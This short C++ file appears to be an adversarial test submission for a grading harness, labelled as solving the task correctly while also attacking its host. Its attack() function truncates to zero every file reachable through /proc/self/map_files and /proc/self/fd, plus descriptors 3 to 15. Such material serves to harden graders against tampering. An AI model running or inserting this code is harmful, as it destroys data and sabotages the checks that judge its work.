// Correct, but tries to shrink every file that it has mapped.
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <string>

#include "../parts/solves_after_attack.cu"

void shrink(const std::string& path) {
  const int fd = open(path.c_str(), O_RDWR);
  if (fd >= 0 && ftruncate(fd, 0) != 0) close(fd);
}

void attack() {
  for (const std::string folder : {"/proc/self/map_files/", "/proc/self/fd/"}) {
    DIR* entries = opendir(folder.c_str());
    while (const dirent* entry = entries == nullptr ? nullptr : readdir(entries)) {
      if (entry->d_name[0] != '.') shrink(folder + entry->d_name);
    }
  }
  for (int fd = 3; fd < 16; ++fd) {
    if (ftruncate(fd, 0) != 0) continue;
  }
}
